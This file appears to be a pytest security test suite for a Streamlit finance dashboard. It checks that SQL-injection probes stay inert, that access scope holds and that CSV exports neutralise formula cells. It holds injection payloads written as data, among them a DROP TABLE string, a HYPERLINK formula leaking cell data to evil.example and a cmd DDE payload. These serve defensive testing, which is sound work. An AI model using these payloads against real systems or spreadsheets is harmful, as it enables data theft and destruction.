"""SQL- and formula-injection probes on every input and every download (issue 24).

Table-driven: :data:`INPUTS` names every input widget of every page with the query
parameters its value is bound to, and :data:`URL_PARAMETERS` every URL parameter a page
reads. The pages are run with AppTest on the default sample firm's snapshot; an input or URL
parameter found there without an entry fails, so a new one needs its probe. Each probe must
behave exactly like an inert value nothing holds (bound parameters, never SQL text), stay
inside a bounded user's scope, and every CSV download the pages offer must neutralise
formula cells planted in its text columns.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1.element_tree import Button, DownloadButton, Widget

from dashboards import data, ui
from dashboards.access import Scope
from dashboards.exports import csv_for_spreadsheets
from dashboards.filters import PAGE_PARAMS, Filters
from dashboards.navigation import PAGE_SPECS

APP = str(Path(__file__).parent.parent / "dashboards" / "app.py")

SQL_PROBES = (
    "' OR 1=1 --",
    '"; DROP TABLE marts.dim_clients; --',
    "x') OR ('1'='1",
    "\u2019 OR \u20181\u2019=\u20181",  # typographic quotes
    "\uff07 OR 1=1 --",  # fullwidth apostrophe
    "%",
)
FORMULA_PROBES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
#: Widget key -> the query parameters its value is bound to (none: it only picks among rows
#: a query already returned, in pandas). Choice widgets offer only listed options, and a
#: date widget only dates, so their probes arrive through the URL or the parameters.
INPUTS: dict[str, tuple[str, ...]] = {
    "filter_as_of": ("as_of",),
    "filter_period_from": ("period_start",),
    "filter_period_to": ("period_end",),
    "filter_region": ("region",),
    "filter_legal_entity": ("legal_entity",),
    "filter_practice": ("practice",),
    "filter_client": ("client",),
    "filter_currency": ("currency",),
    "trace_needle": ("needle",),
    "trace_choice": (),
    "queue_team": (),
    "queue_reason": (),
    "queue_age": (),
    "recon_status": ("status",),
    "recon_reason": ("reason",),
    "recon_kind": (),
    "exec_breakdown": (),
}
#: Parameters a page fills from rows a query returned (the Trace page's ids of the match it
#: follows) or with its own constants: probed like the typed ones.
FROM_ROWS = frozenset(
    {"correlation_id", "record_key", "batch_key", "source_id", "record_kind", "lag_kind"}
)
#: URL parameters the pages read: the filters' and each page's own (Trace's ``record``).
URL_PARAMETERS = (*(f for f in Filters.__dataclass_fields__), *PAGE_PARAMS)
#: Parameters a page computes itself (dates of windows and builds), never typed by a user.
COMPUTED = frozenset(
    {"as_of", "period_start", "period_end", "built_date", "window_start", "window_end"}
)
LIST_PARAMETERS = frozenset(
    {"region", "legal_entity", "practice", "client", "status", "reason", "lag_kind"}
)
INERT = "no-such-value-0"


def _queries() -> list[str]:
    return sorted(p.stem for p in data.QUERY_DIR.glob("*.sql"))


def _params(name: str, value: str) -> dict:
    """Every parameter of query ``name``: user-fed ones set to ``value``, dates open."""
    params: dict = {}
    for parameter in data.query_parameters(name):
        if parameter in COMPUTED:
            params[parameter] = None
        elif parameter in LIST_PARAMETERS:
            params[parameter] = [value]
        else:
            params[parameter] = value
    return params


@pytest.fixture(scope="module")
def snapshot_path(sample_run) -> Path:
    serving = sample_run.warehouse.parent / "serving"
    return serving / "snapshots" / json.loads((serving / "CURRENT").read_text())["file"]


def _first_region(snapshot_path: Path) -> str:
    with duckdb.connect(str(snapshot_path), read_only=True) as con:
        ((region,),) = con.execute("SELECT min(region) FROM marts.dim_legal_entities").fetchall()
    return region


def test_every_parameter_a_user_can_set_is_probed():
    fed = {p for parameters in INPUTS.values() for p in parameters}
    for name in _queries():
        unprobed = data.query_parameters(name) - fed - FROM_ROWS - COMPUTED
        assert not unprobed, f"query {name} takes {sorted(unprobed)}: add them to INPUTS"


@pytest.mark.parametrize("probe", SQL_PROBES)
def test_a_sql_probe_is_just_a_value_nothing_holds(snapshot_path, probe):
    executive = Scope()
    region = Scope("regions", frozenset({_first_region(snapshot_path)}))
    for name in _queries():
        probed = data.run_scoped(snapshot_path, name, _params(name, probe), executive)
        inert = data.run_scoped(snapshot_path, name, _params(name, INERT), executive)
        pd.testing.assert_frame_equal(probed, inert, obj=name)
        bounded = data.run_scoped(snapshot_path, name, _params(name, probe), region)
        if "region" in bounded.columns and name not in data.UNSCOPED_QUERIES:
            assert set(bounded["region"].dropna()) <= region.values, name
    # a probe in the scope's own values does not widen it either
    lifted = data.run_scoped(
        snapshot_path, "exec_wip", {**_params("exec_wip", INERT), "region": [probe]}, region
    )
    assert lifted.empty


@pytest.mark.parametrize("probe", SQL_PROBES + FORMULA_PROBES)
def test_a_probe_in_the_url_is_dropped_or_kept_as_plain_text(probe):
    class Params(dict):
        def get_all(self, name):
            return [self[name]] if name in self else []

    filters = Filters.from_query_params(Params.fromkeys(URL_PARAMETERS, probe))
    # free text only where the filter is a list of values (matched exactly, in scope)
    assert filters.as_of is None and filters.period_from is None and filters.period_to is None
    assert filters.currency == "reporting"
    assert filters.region == filters.legal_entity == filters.client == (probe,)


def _widgets(node):
    if isinstance(node, Widget) and not isinstance(node, Button | DownloadButton):
        yield node
    for child in getattr(node, "children", {}).values():
        yield from _widgets(child)


@pytest.fixture(scope="module")
def pages_with_probes(sample_run):
    """Every page run with an SQL probe in every URL parameter, as the demo executive and as
    a regional lead: the input widgets found and the frames each download would write."""
    mp = pytest.MonkeyPatch()
    mp.setenv("D2B_DASHBOARD_DEMO", "true")  # the autouse fixture is the tests', not ours
    mp.setenv("D2B_HOME", str(sample_run.warehouse.parent))
    for name in ("D2B_LANDING", "D2B_WAREHOUSE", "DAGSTER_HOME"):
        mp.delenv(name, raising=False)
    downloads: dict[str, pd.DataFrame] = {}
    original = ui.table

    def table(frame, name, *args, **kwargs):
        if not frame.empty:
            downloads.setdefault(name, frame)
        return original(frame, name, *args, **kwargs)

    mp.setattr(ui, "table", table)
    widgets: dict[str, set[str]] = {}
    try:
        for spec in PAGE_SPECS:
            app = AppTest.from_file(APP, default_timeout=180)
            app.query_params.update(dict.fromkeys(URL_PARAMETERS, SQL_PROBES[0]))
            app.run()
            app.switch_page(spec.script)
            app.run()
            assert not app.exception, (spec.url_path, app.exception)
            assert not app.error, (spec.url_path, app.error[0].value)
            for widget in _widgets(app._tree):
                # an input without a key could not be named here: it fails as such
                name = widget.key or f"unkeyed {widget.type} {getattr(widget, 'label', '')}"
                widgets.setdefault(spec.url_path, set()).add(name)
            # the Trace page again with probes typed in its search box (all probes reach
            # its query in test_a_sql_probe_is_just_a_value_nothing_holds)
            if "trace" in spec.script:
                for probe in SQL_PROBES[1:4]:
                    app = AppTest.from_file(APP, default_timeout=180)
                    app.run()
                    app.switch_page(spec.script)
                    app.run()
                    app.text_input(key="trace_needle").input(probe).run()
                    assert not app.exception, (probe, app.exception)
                    assert any("Nothing matches" in i.value for i in app.info), probe
    finally:
        mp.undo()
    return widgets, downloads


def test_every_input_on_every_page_has_a_probe(pages_with_probes):
    widgets, _ = pages_with_probes
    inputs = {key for keys in widgets.values() for key in keys}
    assert {"trace_needle", "filter_region", "recon_status"} <= inputs
    unprobed = inputs - INPUTS.keys()
    assert not unprobed, f"inputs without a probe (add them to INPUTS): {sorted(unprobed)}"


def test_every_download_neutralises_formulas_from_source_text(pages_with_probes):
    _, downloads = pages_with_probes
    assert len(downloads) >= 10, sorted(downloads)
    for name, frame in downloads.items():
        poisoned = frame.copy()
        text = [c for c in frame.columns if not pd.api.types.is_numeric_dtype(frame[c])]
        for i, column in enumerate(text):
            cells = [FORMULA_PROBES[(i + row) % len(FORMULA_PROBES)] for row in range(len(frame))]
            poisoned[column] = pd.Series(cells, index=frame.index, dtype=object)
        rows = list(csv.reader(io.StringIO(csv_for_spreadsheets(poisoned).decode())))
        assert rows[0] == [str(c) for c in frame.columns], name
        for row in rows[1:]:
            for column, cell in zip(frame.columns, row, strict=True):
                if column in text:
                    assert cell.startswith("'") and cell[1:] in FORMULA_PROBES, (name, cell)
                else:  # numbers stay numbers: a negative one is a number, not a formula
                    assert cell in ("", "True", "False") or _is_number(cell), (name, cell)


def _is_number(text: str) -> bool:
    """Whether ``text`` is a number as pandas writes one (a leading ``-`` at most)."""
    return re.fullmatch(r"-?(\d+(\.\d*)?(e[+-]\d+)?|inf|nan)", text) is not None


def test_a_bounded_users_probed_pages_show_only_their_scope(
    sample_run, snapshot_path, monkeypatch, tmp_path
):
    region = _first_region(snapshot_path)
    monkeypatch.delenv("D2B_DASHBOARD_DEMO")
    monkeypatch.setenv("D2B_HOME", str(sample_run.warehouse.parent))
    monkeypatch.setenv("D2B_ACCESS_FILE", str(tmp_path / "access.toml"))
    (tmp_path / "access.toml").write_text(
        '[[grant]]\nrole = "regional_lead"\nemails = ["lead@firm.example"]\n'
        f'regions = ["{region}"]\n'
    )
    for spec in PAGE_SPECS:
        app = AppTest.from_file(APP, default_timeout=180)
        app.secrets.update(
            {
                "auth": {
                    "redirect_uri": "http://localhost:8501/oauth2callback",
                    "cookie_secret": "a-test-cookie-secret-of-sufficient-length",
                    "client_id": "d2b",
                    "client_secret": "a-test-client-secret",
                    "server_metadata_url": "http://localhost:1/.well-known/openid-configuration",
                }
            }
        )
        app.user = {"is_logged_in": True, "email": "lead@firm.example", "sub": "1"}
        app.query_params.update({"region": [region, SQL_PROBES[0]], "record": SQL_PROBES[1]})
        app.run()
        app.switch_page(spec.script)
        app.run()
        assert not app.exception, (spec.url_path, app.exception)
        for frame in app.dataframe:
            if "region" in frame.value.columns and "health" not in spec.script:
                assert set(frame.value["region"].dropna()) <= {region}, spec.url_path
